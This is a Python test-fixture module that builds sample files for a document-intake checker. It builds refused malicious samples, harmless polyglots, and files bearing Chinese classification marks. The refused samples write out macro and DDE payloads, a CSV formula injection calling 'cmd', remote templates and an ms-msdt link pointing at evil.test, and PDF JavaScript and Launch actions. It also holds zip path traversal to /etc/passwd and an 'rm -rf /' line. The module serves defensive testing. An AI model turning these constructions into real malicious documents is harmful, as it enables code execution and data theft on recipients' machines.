"""Evidence made to harm: whoever keeps it, whoever opens it. Built here, so that no such file lies in the tree."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.evidence.samples import EXE, GIF, JPEG_JFIF, PNG
from tests.intake.readers import portable
from tracker.evidence.checks import OLE

Make = Callable[[], bytes]
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
O = 'xmlns:ofd="http://www.ofdspec.org/2016"'  # noqa: E741 - as the formats are called: W, S, O
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def package(**parts: str | bytes) -> bytes:
    """A zip; in a keyword ``__`` is a slash and a last ``_xml``, ``_rels``, ``_bin`` … the ending."""
    return archive({_path(name): body for name, body in parts.items()})


def _path(name: str) -> str:
    stem, _, ending = name.replace("__", "/").rpartition("_")
    return f"{stem}.{ending}"


def archive(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in {"[Content_Types].xml": TYPES, **parts}.items():
            zipped.writestr(name, body)
    return out.getvalue()


def docx(*paragraphs: str, inner: str = "", **parts: str | bytes) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    document = f"<w:document {W}><w:body>{body}{inner}</w:body></w:document>"
    return package(word__document_xml=document, **parts)


def xlsx(*strings: str, cells: str = "", **parts: str | bytes) -> bytes:
    shared = "".join(f"<si><t>{text}</t></si>" for text in strings)
    return package(
        xl__workbook_xml=f"<workbook {S}/>",
        xl__sharedStrings_xml=f"<sst {S}>{shared}</sst>",
        xl__worksheets__sheet1_xml=f"<worksheet {S}><sheetData><row>{cells}</row></sheetData></worksheet>",
        **parts,
    )


def pptx(*texts: str) -> bytes:
    a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    body = "".join(f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>" for text in texts)
    return package(ppt__presentation_xml="<p/>", ppt__slides__slide1_xml=f"<p {a}>{body}</p>")


def ofd(*pieces: str) -> bytes:
    objects = "".join(
        f"<ofd:TextObject><ofd:TextCode>{text}</ofd:TextCode></ofd:TextObject>" for text in pieces
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("OFD.xml", f"<ofd:OFD {O}/>")
        zipped.writestr("Doc_0/Document.xml", f"<ofd:Document {O}/>")
        zipped.writestr("Doc_0/Pages/Page_0/Content.xml", f"<ofd:Page {O}>{objects}</ofd:Page>")
    return out.getvalue()


def with_relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    entry = f'<Relationship Id="r1" Type="{KIND}{kind}" Target="{target}"{mode}/>'
    document = f"<w:document {W}><w:body/></w:document>"
    return archive({"word/document.xml": document, "word/_rels/document.xml.rels": RELS.format(entry)})


def old_office(*names: str, text: str = "") -> bytes:
    """An OLE container as far as a search sees it: directory entries at multiples of 128 bytes, text in UTF-16."""
    entries = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))
    return OLE + bytes(504) + entries.ljust(1024, b"\0") + text.encode("utf-16-le").ljust(512, b"\0")


def pdf(catalog: bytes = b"", *more: bytes, page: bytes = b"") -> bytes:
    objects = [
        b"<</Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] " + page + b">>",
        portable.stream(b"q Q"),
        *more,
    ]
    return portable.objects_to_pdf(objects)


def hidden_in_object_stream() -> bytes:
    """A script that no search over the bytes finds: the object lies packed in an object stream."""
    inner = b"<</S /JavaScript /JS (app.alert(1))>>"
    packed = zlib.compress(b"6 0 " + inner)
    head = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(packed)
    parts = [
        (1, b"<</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R>>"),
        (2, b"<</Type /Pages /Kids [3 0 R] /Count 1>>"),
        (3, b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>"),
        (5, head + packed + b"\nendstream"),
    ]
    out, at = bytearray(b"%PDF-1.5\n"), {}
    for number, body in parts:
        at[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = [struct.pack(">BIB", 0, 0, 255)]
    rows += [
        struct.pack(">BIB", 1, at[n], 0) if n in at else struct.pack(">BIB", 0, 0, 0) for n in range(1, 6)
    ]
    rows.append(struct.pack(">BIB", 2, 5, 0))
    table, start = zlib.compress(b"".join(rows)), len(out)
    out += (
        b"7 0 obj\n<</Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d>>\nstream\n"
        % len(table)
    )
    return bytes(out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)


def refused() -> Iterator[tuple[str, Make]]:
    """(name, content): none of these may be kept."""
    yield from {
        "宏.docx": lambda: docx("正文", word__vbaProject_bin=OLE),
        "宏类型.docx": lambda: archive({
            "[Content_Types].xml": TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
            "word/document.xml": f"<w:document {W}/>"}),
        "宏.xlsx": lambda: xlsx("a", xl__vbaProject_bin=OLE),
        "四点零宏.xlsx": lambda: xlsx("a", xl__macrosheets__sheet1_xml=b"<x/>"),
        "控件.docx": lambda: docx("a", word__activeX__activeX1_bin=b"x"),
        "程序.docx": lambda: docx("a", word__media__run_exe=EXE),
        "快捷方式.pptx": lambda: archive({"ppt/presentation.xml": "<p/>", "ppt/media/a.lnk": b"L"}),
        "压缩包.xlsx": lambda: xlsx("a", xl__embeddings__a_zip=b"PK"),
        "对象.docx": lambda: docx("a", word__embeddings__oleObject1_bin=old_office("\x01Ole10Native")),
        "带宏对象.docx": lambda: docx("a", word__embeddings__oleObject1_bin=old_office("_VBA_PROJECT")),
        "嵌宏文档.docx": lambda: docx("a", word__embeddings__b_xlsx=xlsx("a", xl__vbaProject_bin=b"x")),
        "越界.docx": lambda: archive({"word/document.xml": "<a/>", "../../etc/passwd": b"x"}),
        "绝对.docx": lambda: archive({"word/document.xml": "<a/>", "/etc/passwd": b"x"}),
        "盘符.docx": lambda: archive({"word/document.xml": "<a/>", "C:\\a.txt": b"x"}),
        "只像.docx": lambda: _plain_zip("word/a.txt"),
        "实体.docx": lambda: docx("a", word__styles_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "实体.xlsx": lambda: xlsx("a", xl__styles_xml='<?xml version="1.0"?>\n<!DOCTYPE a><a/>'),
        "实体十六.docx": lambda: docx("a", word__styles_xml='<!DOCTYPE a><a/>'.encode("utf-16")),
        "远程模板.docx": lambda: with_relation("attachedTemplate", "http://evil.test/a.dotm"),
        "共享图片.docx": lambda: with_relation("image", "\\\\evil.test\\a\\b.png"),
        "网络图片.docx": lambda: with_relation("image", "https://evil.test/b.png"),
        "远程对象.docx": lambda: with_relation("oleObject", "mhtml:https://evil.test/a!x"),
        "诊断工具.docx": lambda: with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "脚本链接.docx": lambda: with_relation("hyperlink", "javascript:alert(1)"),
        "子文档.docx": lambda: with_relation("subDocument", "a.docx"),
        "夹带.docx": lambda: with_relation("aFChunk", "a.html", ""),
        "内部指外.docx": lambda: with_relation("image", "file://evil.test/a.png", ""),
        "动态.docx": lambda: docx(
            inner='<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a "b"</w:instrText></w:p>'),
        "动态域.docx": lambda: docx(inner='<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'),
        "引用远程.docx": lambda: docx(inner='<w:p><w:instrText>INCLUDETEXT "https://evil.test/a"</w:instrText></w:p>'),
        "动态.xlsx": lambda: xlsx("a", cells="<c><f>cmd|'/c calc'!A0</f></c>"),
        "动态链接.xlsx": lambda: xlsx("a", xl__externalLinks__externalLink1_xml=f'<externalLink {S}><ddeLink/></externalLink>'),
        "动态.csv": lambda: "序号,值\n1,=cmd|'/c calc'!A0\n".encode(),
        "动态二.csv": lambda: b"1,\"@SUM(1)*cmd|'/c calc'!A0\"".replace(b"SUM(1)*", b""),
        "宏.doc": lambda: old_office("Macros", "VBA", "_VBA_PROJECT"),
        "宏.xls": lambda: old_office("_VBA_PROJECT_CUR"),
        "宏.wps": lambda: old_office("_VBA_PROJECT"),
        "宏.et": lambda: old_office("_VBA_PROJECT_CUR"),
        "宏.dps": lambda: old_office("_VBA_PROJECT"),
        "夹带.doc": lambda: old_office("\x01Ole10Native"),
        "加密.doc": lambda: old_office("EncryptionInfo", "EncryptedPackage"),
        "加密.docx": lambda: old_office("EncryptionInfo", "EncryptedPackage"),
        "脚本.pdf": lambda: pdf(b"/OpenAction 5 0 R", b"<</S /JavaScript /JS (app.alert(1))>>"),
        "拼写脚本.pdf": lambda: pdf(b"/OpenAction 5 0 R", b"<</S /J#61va#53cript /JS (a)>>"),
        "启动.pdf": lambda: pdf(b"/OpenAction <</S /Launch /F (cmd.exe)>>"),
        "藏脚本.pdf": hidden_in_object_stream,
        "脚本名册.pdf": lambda: pdf(b"/Names <</JavaScript 5 0 R>>", b"<</Names []>>"),
        "夹程序.pdf": lambda: pdf(
            b"/Names <</EmbeddedFiles <</Names [(a) 5 0 R]>> >>", b"<</Type /Filespec /F (a.exe) /UF (a.exe)>>"),
        "批注启动.pdf": lambda: pdf(b"", b"<</Subtype /Link /A <</S /Launch /F (a)>> >>", page=b"/Annots [5 0 R]"),
        "媒体.pdf": lambda: pdf(b"", b"<</Subtype /RichMedia>>", page=b"/Annots [5 0 R]"),
        "表单.pdf": lambda: pdf(b"/AcroForm <</XFA [(a) 4 0 R]>>"),
        "程序.pdf": lambda: EXE, "程序.jpg": lambda: EXE, "程序.txt": lambda: EXE, "程序.doc": lambda: EXE,
        "程序.ofd": lambda: EXE, "网页.html": lambda: b"<script>", "图.svg": lambda: b"<svg onload=alert(1)>",
        "脚本.js": lambda: b"x", "批.bat": lambda: b"x", "包.zip": lambda: docx("a"), "包.rar": lambda: b"Rar!",
        "宏.docm": lambda: docx("a"), "宏.xlsm": lambda: xlsx("a"), "总结.pdf.exe": lambda: EXE, "a.hta": lambda: b"x",
        "富文本.doc": lambda: b"{\\rtf1\\object\\objdata 01}", "网页.doc": lambda: b"<html><script>1</script></html>",
    }.items()  # fmt: skip


def harmless() -> Iterator[tuple[str, Make]]:
    """Two files in one skin: kept as what the beginning says, and handed out so that nothing of it runs."""
    yield from {
        "图加脚本.gif": lambda: GIF + b"/*<script>alert(1)</script>*/",
        "图加包.jpg": lambda: JPEG_JFIF + docx("a"),
        "图加程序.png": lambda: PNG + EXE,
        "文档加包.pdf": lambda: pdf() + docx("a"),
        "网页.txt": lambda: b"<html><script>alert(1)</script></html>",
        "脚本.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
    }.items()


def marked() -> Iterator[tuple[str, Make, str]]:
    """(name, content, the mark the sentence quotes)."""
    text = "正文。" * 30
    yield from [
        ("一.docx", lambda: docx("机密★10年", text), "机密★10年"),
        ("二.docx", lambda: docx(text, "秘 密 ★ 1 年"), "秘密★1年"),
        ("三.docx", lambda: docx(text, "绝密★长期"), "绝密★长期"),
        ("页眉.docx", lambda: docx(
            text, word__header1_xml=f"<w:hdr {W}><w:p><w:t>机密</w:t><w:t>★</w:t></w:p></w:hdr>"), "机密★"),
        ("工作秘密.docx", lambda: docx("工作秘密★", text), "工作秘密★"),
        ("单独一行.docx", lambda: docx("机密", text), "机密"),
        ("内部资料.docx", lambda: docx("内部资料 注意保存", text), "内部资料注意保存"),
        ("密级.docx", lambda: docx("密级：秘密", text), "密级:秘密"),
        ("表.xlsx", lambda: xlsx("序号", "秘密★5年"), "秘密★5年"),
        ("页眉.xlsx", lambda: xlsx(
            "a", xl__worksheets__sheet2_xml=f"<worksheet {S}><oddHeader>&amp;R机密★</oddHeader></worksheet>"), "机密★"),
        ("片.pptx", lambda: pptx("标题", "绝密★"), "绝密★"),
        ("版式.ofd", lambda: ofd("机密★10年"), "机密★10年"),
        ("散字.ofd", lambda: ofd("机", "密", "★", "正文开始，内容很长。"), "机密★"),
        ("文.txt", lambda: f"秘密★\n{text}".encode(), "秘密★"),
        ("旧码.txt", lambda: f"{text}\n机密★3年".encode("gb18030"), "机密★3年"),
        ("统一码.txt", lambda: f"机密★\n{text}".encode("utf-16"), "机密★"),
        ("表.csv", lambda: "序号,密级\n1,机密★".encode(), "机密★"),
        ("旧文档.doc", lambda: old_office("WordDocument", text="机密★10年"), "机密★"),
        ("旧表.et", lambda: old_office("Workbook", text="工作秘密 ★"), "工作秘密★"),
        ("排印.pdf", lambda: portable.pdf_of(portable.printed(["机密★10年", text])), "机密★10年"),
        ("机密★通知.pdf", lambda: pdf(), "机密★"),
    ]  # fmt: skip


def _plain_zip(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr(name, b"x")
    return out.getvalue()
